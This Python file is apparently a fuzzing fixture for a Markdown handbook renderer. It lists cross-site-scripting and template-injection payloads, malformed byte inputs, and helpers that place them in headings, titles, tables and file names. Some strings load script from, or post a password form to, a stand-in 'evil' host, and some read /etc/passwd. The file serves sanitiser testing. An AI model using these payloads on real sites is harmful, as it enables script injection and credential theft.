"""Texts that try to make a browser run something, and the places of a handbook to put them."""

import json

TEXTS = [
    # Links and images whose target would run.
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#x0A;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](java%0ascript:alert(1))",
    "<javascript:alert(1)>",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "![a][b]\n\n[b]: javascript:alert(1)",
    "[a](vbscript:x)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](<data:image/svg+xml,<svg onload=alert(1)>>)",
    "[a](//evil)",
    "[a](\\\\evil)",
    "[a](https:evil)",
    "[a](file:///etc/passwd)",
    # Attributes: titles, alternative texts, info strings.
    "[link](/url '\"><script>alert()</script>')",
    '![x" onerror="alert(1)](y)',
    '![a](x"onerror=alert(1))',
    "[t-\"<>&](/d-\"<> 't-\"<>&')",
    "[t-\"<>&](</d-\"\\<\\>> 't-\"<>&')",
    '```"><script>alert(1)</script>\ncode\n```',
    '```js" onmouseover="x\ncode\n```',
    "~~~`\"'><img src=x onerror=alert(1)>\ncode\n~~~",
    # Headings, which go into anchors, contents, titles and navigation.
    "# <img src=x onerror=alert(1)>",
    '# "><svg/onload=x>',
    "## </title><script>alert(1)</script>",
    "## `<script>alert(1)</script>`",
    "## &lt;script&gt;alert(1)&lt;/script&gt;",
    "# __proto__",
    "# constructor",
    "# toString",
    "# body",
    "#",
    "# -",
    "# \U0001F600\U0001F680",
    "# " + "long " * 2000,
    # Footnotes.
    'a[^"><script>]\n\n[^"><script>]: b',
    "a[^x]\n\n[^x]: <script>alert(1)</script>",
    # Raw HTML.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil/x.js></ScRiPt>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="x" onclick=alert(1)>a</a>',
    "<a href=' javascript:alert(1)'>a</a>",
    "<a href='java&Tab;script:alert(1)'>a</a>",
    "<p style='background:url(javascript:alert(1))'>a</p>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" title=\"a>b\" onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<base href=//evil>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<form action=//evil><input name=password><button>a</button></form>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    "<link rel=stylesheet href=//evil/x.css>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "</title><script>alert(1)</script>",
    "</textarea></main></body><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "a ]]> b",
    "a --> b",
    # Template languages.
    "{{ page.title }} {{{ page.body }}} {{> head}} {{#navigation}}",
    "{% include '/etc/passwd' %}",
    "<%= 7 * 7 %>",
    "${7 * 7}",
    # Diagrams.
    '```c4\nview: "><script>alert(1)</script>\n```',
    "```mermaid\ngraph TD; a[\"<img src=x onerror=alert(1)>\"] --> b\nclick a \"javascript:alert(1)\"\n```",
]

BYTES = {
    "nul": b"# A\n\nb\x00c",
    "surrogate": b"# A\n\nb\xed\xa0\x80c",
    "overlong": b"# A\xc0\xaf\n\nb\xc0\xafc",
    "truncated": b"# A\n\nb\xe2\x82",
    "mark-in-the-middle": b"# A\n\nb\xef\xbb\xbfc",
    "utf-16": "# A\n\nb <script>alert(1)</script>".encode("utf-16"),
    "carriage-returns": b"# A\r\rb\r\r- c\r",
    "mixed-line-ends": b"---\r\ntitle: A\n---\r\n# A\r\n\r\nb\n\rc",
    "line-separator": "# A\u2028b\n\nc\u2029d".encode(),
    "not-a-character": "# A\ufffe\n\nb\uffff".encode(),
    "direction": "# A\u202eb\n\n\u2066c\u2069\u202d".encode(),
    "joiners": ("# A" + "\u200d" * 5000 + "\n").encode(),
    "marks": ("# A" + "\u0301" * 10000 + "\n\nb" + "\u0301" * 10000).encode(),
    "flags": ("# A\n\n" + "\U0001F1E9\U0001F1EA" * 50000).encode(),
    "letters": "# ß İ ı ﬁ\n\n## é\n\n## e\u0301\n\n[a](#é) [b](#e\u0301)".encode(),
}

PLACES = {
    "body": lambda text, token: f"# {token}\n\n{text}\n",
    "heading": lambda text, token: f"# {one_line(text)} {token}\n\n## {one_line(text)}\n\n{token}\n",
    "title": lambda text, token: f"---\ntitle: {json.dumps(text)}\n---\n\n{token}\n",
    "cell": lambda text, token: f"# {token}\n\n| a | b |\n|---|---|\n| {one_line(text)} | {cell(text)} |\n",
    "list": lambda text, token: f"# {token}\n\n- {indented(text)}\n\n1. [ ] {one_line(text)}\n",
    "alert": lambda text, token: f"# {token}\n\n> [!NOTE]\n" + quoted(text),
    "name": lambda text, token: f"# {token}\n\n{token}\n",
}


def one_line(text):
    return " ".join(text.split("\n"))


def cell(text):
    return one_line(text).replace("|", "\\|")


def indented(text):
    return text.replace("\n", "\n  ")


def quoted(text):
    return "".join(f"> {line}\n" for line in text.split("\n"))


def file_name(text):
    """The text as far as a file system takes it for a name."""
    return one_line(text).replace("/", "\u2215").replace("\0", "")[:60].encode()[:200].decode(errors="ignore")
